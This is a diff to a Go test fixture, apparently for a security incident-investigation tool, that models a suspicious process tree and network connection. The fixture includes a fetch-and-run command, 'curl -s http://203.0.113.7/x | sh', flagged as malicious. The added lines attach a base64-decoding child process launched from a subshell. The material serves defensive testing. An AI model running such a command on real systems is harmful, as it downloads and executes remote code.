@@ -106,6 +106,8 @@ func (f *fakeSource) Incident(_ context.Context, id string) (IncidentDetail, err
 			{PID: 4242, PPID: 4100, Comm: "sh", Argv: []string{"sh", "-c", "curl -s http://203.0.113.7/x | sh"}, Flagged: true},
 			{PID: 4243, PPID: 4242, Comm: "curl", Argv: []string{"curl", "-s", "http://203.0.113.7/x"}, Flagged: true},
 			{PID: 4250, PPID: 4242, Comm: "sh", Argv: []string{"sh"}},
+			// Run from a subshell of 4242 (pid 4255), which has no node.
+			{PID: 4260, PPID: 4255, Launcher: 4242, Comm: "base64", Argv: []string{"base64", "-d"}},
 		},
 		Connections: []Connection{
 			{TS: t.Add(300 * time.Millisecond), PID: 4243, Comm: "curl", Proto: "tcp", Src: "10.0.0.5:51234", Dst: "203.0.113.7:80", Bytes: 5120},
